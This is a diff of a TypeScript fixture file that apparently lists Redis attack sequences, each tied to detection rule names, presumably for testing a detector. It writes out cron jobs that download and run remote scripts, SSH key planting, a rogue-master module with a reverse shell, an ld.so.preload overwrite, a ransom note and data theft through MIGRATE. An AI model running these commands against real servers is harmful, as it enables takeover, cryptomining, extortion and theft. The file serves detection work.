@@ -25,7 +25,13 @@ export const PLAYS: readonly Play[] = [
       ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
       ['SAVE'],
     ],
-    rules: ['redis.wipe', 'redis.wipe-and-plant', 'redis.ssh-key-value', 'redis.dump-to-ssh', 'redis.saved-to-ssh'],
+    rules: [
+      'redis.wipe',
+      'redis.wipe-and-plant',
+      'redis.ssh-key-value',
+      'redis.dump-to-ssh',
+      'redis.saved-to-ssh',
+    ],
     campaign: 'crackit-ssh',
   },
   {
@@ -43,12 +49,21 @@ export const PLAYS: readonly Play[] = [
     name: 'rediswannamine',
     commands: [
       ['SET', 'trojan1', cron(1, `curl -fsSL http://${MASTER}/x | bash`)],
-      ['SET', 'Backup3', '\t\n*/10 * * * * lynx -source https://files.example.invalid/a > .cmd && bash .cmd\n\t'],
+      [
+        'SET',
+        'Backup3',
+        '\t\n*/10 * * * * lynx -source https://files.example.invalid/a > .cmd && bash .cmd\n\t',
+      ],
       ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
       ['CONFIG', 'SET', 'dbfilename', 'root'],
       ['SAVE'],
     ],
-    rules: ['redis.cron-download', 'redis.dump-to-cron', 'redis.dump-named-as-system-file', 'redis.saved-to-cron'],
+    rules: [
+      'redis.cron-download',
+      'redis.dump-to-cron',
+      'redis.dump-named-as-system-file',
+      'redis.saved-to-cron',
+    ],
     campaign: 'rediswannamine',
   },
   {
@@ -62,7 +77,11 @@ export const PLAYS: readonly Play[] = [
       ['set', 'backup1', cron(2, `cd1 -fsSL http://${MASTER}/b2f628/b.sh | sh`)],
       ['set', 'backup2', cron(3, `wget -q -O- http://${MASTER}/b2f628/b.sh | sh`)],
       ['set', 'backup3', cron(4, `root echo ${DOWNLOAD} | base64 -d | bash | bash`)],
-      ['set', 'backup4', `\n@hourly  python -c "import urllib2; print urllib2.urlopen('http://f\\i\\l\\e\\s.example.invalid/t').read()" >.1;chmod +x .1;./.1\n`],
+      [
+        'set',
+        'backup4',
+        `\n@hourly  python -c "import urllib2; print urllib2.urlopen('http://f\\i\\l\\e\\s.example.invalid/t').read()" >.1;chmod +x .1;./.1\n`,
+      ],
       ['config', 'set', 'dir', '/var/spool/cron/'],
       ['config', 'set', 'dbfilename', 'root'],
       ['save'],
@@ -118,7 +137,15 @@ export const PLAYS: readonly Play[] = [
       ['system.exec', 'rm -rf /tmp/exp.so'],
       ['MODULE', 'UNLOAD', 'system'],
     ],
-    rules: ['redis.rogue-master-port', 'redis.rogue-master-run', 'redis.module-command', 'redis.module-hostile', 'redis.traces-removed', 'redis.download-and-run', 'redis.dump-to-scratch'],
+    rules: [
+      'redis.rogue-master-port',
+      'redis.rogue-master-run',
+      'redis.module-command',
+      'redis.module-hostile',
+      'redis.traces-removed',
+      'redis.download-and-run',
+      'redis.dump-to-scratch',
+    ],
     campaign: 'p2pinfect',
   },
   {
@@ -149,7 +176,11 @@ export const PLAYS: readonly Play[] = [
   {
     name: 'skidmap',
     commands: [
-      ['SET', 'a', Buffer.from(cron(10, 'root curl -fsSL http://a.powerofwish.com/pm.sh | sh')).toString('base64')],
+      [
+        'SET',
+        'a',
+        Buffer.from(cron(10, 'root curl -fsSL http://a.powerofwish.com/pm.sh | sh')).toString('base64'),
+      ],
       ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
       ['SAVE'],
     ],
@@ -177,7 +208,12 @@ export const PLAYS: readonly Play[] = [
       ['SLAVEOF', 'NO', 'ONE'],
       ['system.rev', MASTER, '4444'],
     ],
-    rules: ['redis.rogue-master-run', 'redis.module-command', 'redis.reverse-shell', 'redis.dump-named-as-code'],
+    rules: [
+      'redis.rogue-master-run',
+      'redis.module-command',
+      'redis.reverse-shell',
+      'redis.dump-named-as-code',
+    ],
     campaign: 'rogue-master-toolkit',
   },
   {
@@ -228,13 +264,22 @@ export const PLAYS: readonly Play[] = [
       ['CONFIG', 'SET', 'dbfilename', 'ld.so.preload'],
       ['SAVE'],
     ],
-    rules: ['redis.account-line', 'redis.dump-to-system', 'redis.dump-named-as-system-file', 'redis.saved-to-system'],
+    rules: [
+      'redis.account-line',
+      'redis.dump-to-system',
+      'redis.dump-named-as-system-file',
+      'redis.saved-to-system',
+    ],
   },
   {
     name: 'wipe-and-ransom',
     commands: [
       ['FLUSHALL'],
-      ['SET', 'README', 'Your data is backed up. To recover your database pay 0.015 BTC to the address below.'],
+      [
+        'SET',
+        'README',
+        'Your data is backed up. To recover your database pay 0.015 BTC to the address below.',
+      ],
     ],
     rules: ['redis.wipe', 'redis.ransom-note', 'redis.wipe-and-note'],
     campaign: 'wipe-and-ransom',
@@ -254,7 +299,11 @@ export const PLAYS: readonly Play[] = [
   },
   {
     name: 'data-theft',
-    commands: [['KEYS', '*'], ['MIGRATE', MASTER, '6379', 'session', '0', '5000'], ['PSYNC', '?', '-1']],
+    commands: [
+      ['KEYS', '*'],
+      ['MIGRATE', MASTER, '6379', 'session', '0', '5000'],
+      ['PSYNC', '?', '-1'],
+    ],
     rules: ['redis.key-listing', 'redis.keys-carried-off', 'redis.replica-pull'],
   },
   {
@@ -265,13 +314,21 @@ export const PLAYS: readonly Play[] = [
 ];
 
 export const SCANS: readonly Play[] = [
-  { name: 'a scanner that sends INFO', commands: [['info'], ['PING'], ['QUIT']], rules: ['redis.server-questions'] },
+  {
+    name: 'a scanner that sends INFO',
+    commands: [['info'], ['PING'], ['QUIT']],
+    rules: ['redis.server-questions'],
+  },
   {
     name: 'zgrab2',
     commands: [['PING'], ['INFO'], ['NONEXISTENT'], ['QUIT']],
     rules: ['redis.scanner-named', 'redis.server-questions'],
   },
-  { name: 'a probe that names its target', commands: [['MGLNDD_192.0.2.1_6379']], rules: ['redis.scanner-named'] },
+  {
+    name: 'a probe that names its target',
+    commands: [['MGLNDD_192.0.2.1_6379']],
+    rules: ['redis.scanner-named'],
+  },
   {
     name: 'a look at keys and folder',
     commands: [['KEYS', '*'], ['CONFIG', 'GET', 'dir'], ['DBSIZE'], ['CLIENT', 'LIST']],
@@ -279,7 +336,13 @@ export const SCANS: readonly Play[] = [
   },
   {
     name: 'a client library that only connects',
-    commands: [['HELLO', '3'], ['CLIENT', 'SETINFO', 'LIB-NAME', 'redis-py'], ['PING'], ['SET', 'a', '1'], ['GET', 'a']],
+    commands: [
+      ['HELLO', '3'],
+      ['CLIENT', 'SETINFO', 'LIB-NAME', 'redis-py'],
+      ['PING'],
+      ['SET', 'a', '1'],
+      ['GET', 'a'],
+    ],
     rules: [],
   },
 ];
